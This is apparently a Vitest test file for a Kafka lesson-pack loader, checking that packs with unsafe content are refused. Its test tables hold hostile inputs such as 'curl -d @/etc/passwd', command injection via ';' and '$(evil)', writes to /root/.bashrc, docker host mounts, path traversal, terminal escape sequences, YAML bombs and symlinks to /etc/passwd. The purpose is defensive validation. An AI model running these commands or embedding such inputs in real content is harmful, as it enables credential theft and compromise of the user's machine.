import { mkdir, rm, symlink } from 'node:fs/promises';
import { join } from 'node:path';
import { afterEach, beforeEach, describe, expect, test } from 'vitest';
import { checkCommand, loadCourse } from '../../../src/commands/load-course.ts';
import { isUserError } from '../../../src/errors.ts';
import { loadPack } from '../../../src/lesson/load-pack.ts';
import { packOnDisk } from '../author/support/pack-on-disk.ts';
import { validPack } from '../author/support/valid-pack.ts';

let pack: Awaited<ReturnType<typeof packOnDisk>>;
beforeEach(async () => {
  pack = await packOnDisk({ ...validPack, 'secret/lesson.md': 'not yours' });
});
afterEach(() => pack.remove());

const file = '02-beta/lesson.md';
const beta = validPack[file] ?? '';
const solution = 'kafka-topics.sh --bootstrap-server localhost:9092 --create --topic orders --partitions 3';

/** `file:line message` of each reason for which the pack or its lesson is refused. */
async function reasons(): Promise<readonly string[]> {
  const result = await loadPack(pack.folder, { checkCommand });
  const errors = result.ok ? (result.pack.broken ?? []).flatMap((lesson) => lesson.errors) : result.errors;
  return errors.map(
    ({ position, message }) => `${position.path.slice(pack.folder.length + 1)}:${position.line} ${message}`,
  );
}

describe('what a lesson would run', () => {
  test.each([
    ['a program by its path', '/usr/bin/evil', 'There is no tool'],
    ['a program beside the pack', './evil.sh', 'There is no tool'],
    ['a shell', 'sh -c evil', 'There is no tool'],
    ['a path with a known name', '/tmp/kafka-topics.sh --list; evil', '";"'],
    ['a substitution', 'kafka-topics.sh --topic $(evil)', 'Variables and substitutions'],
    ['a redirection', 'echo x > /root/.bashrc', '">"'],
    ['a class of its choice', 'kafka-run-class.sh -cp . Evil', 'runs whatever its files say'],
    ['a container', 'docker run -v /:/host x', 'Of docker'],
    ['a program through tar', 'tar xf x.tar --to-command=evil', 'do not use tar with'],
    ['an upload', 'curl -d @/etc/passwd localhost:8083', 'outside the lesson'],
    ['a download', 'curl example.org/evil', 'localhost only'],
    ['a client command', 'mariadb shop -e "system evil"', 'commands of the mariadb client'],
  ])('%s', async (_name, line, why) => {
    await pack.write({ [file]: beta.replace(solution, line) });
    const [reason, ...more] = await reasons();
    expect(more).toEqual([]);
    expect(reason).toContain(`${file}:37 `);
    expect(reason).toContain(why);
  });

  test.each([
    ['a request to another machine', '```http solution\nGET http://example.org/\n```', 'another machine'],
    [
      'a connector that reads any file',
      '```http solution\nPUT http://localhost:8083/connectors/x/config\n\n{ "file": "/etc/passwd" }\n```',
      '"/etc/passwd" is outside',
    ],
    ['a file of the database', "```sql solution at=shop\nSELECT 1 INTO OUTFILE 'x'\n```", 'reads or writes files'],
    ['a file outside', '```text solution file=../../.bashrc\nevil\n```', 'leaves the folder'],
    ['an absolute file', '```text solution file=/root/.bashrc\nevil\n```', 'not inside the folder'],
    ['a device of Windows', '```text solution file=nul\nevil\n```', 'Windows'],
    ['a connector in a file', '```json solution file=x.json\n{ "file": "/etc/passwd" }\n```', 'is outside'],
  ])('%s', async (_name, block, why) => {
    await pack.write({ [file]: beta.replace(`\`\`\`sh solution\n${solution}\n\`\`\``, block) });
    expect(await reasons()).toEqual([expect.stringContaining(why)]);
  });
});

describe('what a pack would make the program read', () => {
  test.each([
    ['a control sequence in prose', `${beta}\n\u001b]52;c;evil\u0007\n`, 'control character'],
    ['a title that steers the terminal', beta.replace('The second lesson', 'x\u009b2J'), 'control character'],
    ['text that is turned around', beta.replace('That is all.', '\u202Ella si tahT'), 'control character'],
    ['an escaped control sequence', beta.replace('title: The second lesson', 'title: "\\e[2J"'), 'one line'],
    ['bytes that are no text', Buffer.concat([Buffer.from(beta), Buffer.of(0xff)]), 'not valid UTF-8'],
    ['a line without end', `${beta}\n${'a'.repeat(20_000)}\n`, 'longer than 10000'],
    ['a file without end', Buffer.alloc(5 * 1024 * 1024, 'a\n'), 'larger than 4 MB'],
    ['YAML that unfolds', beta.replace('- topic: orders', `- &a [${'*a,'.repeat(100)}]\n- topic: orders`), ''],
    ['YAML with a merge key', beta.replace('- topic: orders', '- <<: { topic: x }'), '<< is not used'],
    [
      'YAML that is deep',
      beta.replace('partitions: 3\n```', `config: { a: ${'['.repeat(5000)} }\n\`\`\``),
      'nested too deeply',
    ],
    ['YAML with a tag', beta.replace('partitions: 3\n```', 'partitions: !!js/function 3\n```'), 'tag'],
    ['YAML with __proto__', beta.replace('partitions: 3\n```', '__proto__: 3\n```'), 'key'],
    [
      '10,000 steps',
      beta + Array.from({ length: 10_000 }, (_, index) => `## S\n<!-- step: s${index} -->\n\nText.\n\n`).join(''),
      'at most 500 steps',
    ],
  ])('%s', async (_name, text, why) => {
    await pack.write({ [file]: text });
    const [reason] = await reasons();
    expect(reason).toContain(`${file}:`);
    expect(reason).toContain(why);
  });

  test.each([
    ['a folder outside', 'lessons: [../secret]', 'leaves the folder'],
    ['an absolute folder', 'lessons: [/etc]', 'not inside the folder'],
    ['a folder of Windows', "lessons: ['C:\\x']", 'backslash'],
    ['a name that is a path', 'name: ../kafka-lessons', 'may only have a-z'],
    ['a pattern that never ends in its name', `name: ${'a'.repeat(5000)}!`, 'may only have a-z'],
  ])('%s', async (_name, line, why) => {
    const key = /^\w+/.exec(line)?.[0];
    await pack.write({ 'pack.yaml': validPack['pack.yaml']?.replace(new RegExp(`^${key}: .*`, 'm'), () => line) });
    expect(await reasons()).toEqual([expect.stringContaining(why)]);
  });

  test.skipIf(process.platform === 'win32')('links out of the pack', async () => {
    await rm(join(pack.folder, '02-beta'), { recursive: true });
    await symlink('/etc', join(pack.folder, '02-beta'));
    expect(await reasons()).toEqual(['pack.yaml:5 There is no file "02-beta/lesson.md" in this pack.']);
    await rm(join(pack.folder, '02-beta'));
    await mkdir(join(pack.folder, '02-beta'));
    await symlink('/etc/passwd', join(pack.folder, '02-beta/lesson.md'));
    expect(await reasons()).toEqual(['pack.yaml:5 "02-beta" leads out of the pack through a link.']);
  });
});

describe('a pack of which one lesson is broken', () => {
  test('can be used but for that lesson', async () => {
    await pack.write({ '01-alpha/lesson.md': 'broken' });
    const { lessons, broken } = await loadCourse(pack.folder);
    expect(lessons.map(({ id }) => id)).toEqual(['beta']);
    expect(broken).toMatchObject([{ index: 0, folder: '01-alpha', errors: [{ position: { line: 1 } }] }]);
  });

  test('is refused where nothing of it can be used, with every place', async () => {
    await pack.write({ '01-alpha/lesson.md': 'broken', [file]: 'broken' });
    const error = await loadCourse(pack.folder).catch((thrown: unknown) => thrown);
    if (!isUserError(error)) throw new Error('not refused');
    expect(error.exitCode).toBe(2);
    expect(error.explanation.why?.match(/lesson\.md:1:1/g)).toHaveLength(2);
  });
});
